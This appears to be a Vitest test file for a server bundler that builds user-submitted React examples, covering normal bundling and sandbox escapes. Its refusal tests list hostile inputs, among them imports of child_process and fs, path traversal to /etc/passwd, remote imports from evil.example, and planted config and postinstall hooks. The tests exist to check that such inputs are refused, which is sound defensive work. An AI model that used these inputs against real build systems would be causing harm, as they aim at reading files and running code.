import { existsSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { installedVersion } from '~/features/example-runs/bundle'
import { bundleHere, packagesFolder } from '~/features/example-runs/bundler.server'

const folder = packagesFolder()
const bundle = (files: Readonly<Record<string, string>>, entry = 'src/main.tsx') =>
  bundleHere({ files, entry, framework: 'react', packagesFolder: folder })

/** Bundles a single file. */
const bundleOf = (code: string) => bundle({ 'src/main.tsx': code })

describe('a bundle', () => {
  test('holds own files, packages of the list and styles', async () => {
    const made = await bundle({
      'src/main.tsx': `import { createRoot } from 'react-dom/client'
        import { App } from './app.js'
        import './app.css'
        createRoot(document.body).render(<App />)`,
      'src/app.tsx': `import text from '@/notes.json'
        export const App = (): React.ReactNode => <p>{text.first}</p>`,
      'src/notes.json': '{ "first": "the first note" }',
      'src/app.css': 'p { color: teal }',
    })
    expect(made).toMatchObject({ kind: 'built', script: expect.stringContaining('the first note') })
    expect(made).toMatchObject({ sheet: expect.stringContaining('teal') })
  })

  test('of Router has its history in memory: a frame without an origin has no paths', async () => {
    const made = await bundleOf(`import { createBrowserHistory } from '@tanstack/react-router'
      createBrowserHistory()`)
    expect(made).toMatchObject({ kind: 'built' })
    expect(made).not.toMatchObject({ script: expect.stringContaining('popstate') })
  })

  test('holds CommonJS files as code', async () => {
    const made = await bundle({
      'src/main.tsx': "import a from './a.cjs'\nimport { b } from './b.cts'\ndocument.title = a.word + b",
      'src/a.cjs': "module.exports = { word: 'the word' }",
      'src/b.cts': "export const b: string = 'the letter'",
    })
    expect(made).toMatchObject({ kind: 'built', script: expect.stringContaining('the letter') })
    expect(made).not.toMatchObject({ script: expect.stringContaining('const b: string') })
  })

  test('names file and line of what it lacks', async () => {
    expect(await bundleOf("import './gone'")).toEqual({
      kind: 'refused',
      reasons: ['src/main.tsx:1: This example has no file "src/gone" that can be loaded here.'],
    })
    expect(await bundleOf('const x = ;')).toMatchObject({
      reasons: [expect.stringMatching(/^src\/main\.tsx:1: /)],
    })
  })
})

describe('a hostile example is refused', () => {
  test.each([
    "import 'node:fs'",
    "import 'fs'",
    "import 'child_process'",
    "require('node:child_process')",
    "import('node:worker_threads')",
    "import 'esbuild'",
    "import 'vite'",
    "import 'react/../esbuild/package.json'",
    "import 'react/../../package.json'",
    "import '../../package.json'",
    "import '../../../../../../etc/passwd'",
    "import '/etc/passwd'",
    "import './../../node_modules/esbuild/package.json'",
    "import 'file:///etc/passwd'",
    "import 'https://evil.example/x.js'",
    "import '//evil.example/x.js'",
    "import '@tanstack/react-start'",
    "import '__proto__'",
    "import './constructor'",
    "import { secret } from './macro.ts' with { type: 'macro' }; secret()",
    "import '#internal'",
    "import 'C:\\\\windows\\\\win.ini'",
    "import '\\0virtual'",
  ])('%s', async (code) => {
    const made = await bundleOf(code)
    expect(made.kind).toBe('refused')
    expect(JSON.stringify(made)).not.toMatch(/root:x:|devDependencies|at Object\.|"dependencies"/)
  })

  test.each(['@import "/etc/passwd";', '@import "../../package.json";', 'a { background: url(/etc/hosts) }'])(
    'for its style %s',
    async (sheet) => {
      expect(await bundle({ 'src/main.tsx': "import './a.css'", 'src/a.css': sheet })).toMatchObject({
        kind: 'refused',
      })
    },
  )

  test('that is larger than a page may be', async () => {
    const text = 'x'.repeat(1_600_000)
    expect(
      await bundleOf(`document.title = ${JSON.stringify(text)} + ${JSON.stringify(`y${text}`)}`),
    ).toEqual({
      kind: 'refused',
      reasons: ['This example is too large to run here.'],
    })
  })
})

test('no config, plugin or macro of an example is executed', async () => {
  const mark = join(tmpdir(), `example-ran-${process.pid}`)
  const write = `import { writeFileSync } from 'node:fs'; writeFileSync(${JSON.stringify(mark)}, '')`
  await bundle({
    'src/main.tsx': "document.title = 'main'",
    'vite.config.ts': write,
    'tsconfig.json': JSON.stringify({
      compilerOptions: { plugins: [{ name: mark }] },
      extends: '../../../x',
    }),
    'package.json': JSON.stringify({ scripts: { postinstall: `touch ${mark}` } }),
  })
  expect(existsSync(mark)).toBe(false)
})

test('a package that is not installed has no version', () => {
  expect(installedVersion(folder, 'react')).toMatch(/^\d+\./)
  expect(installedVersion(folder, 'not-there')).toBeNull()
})
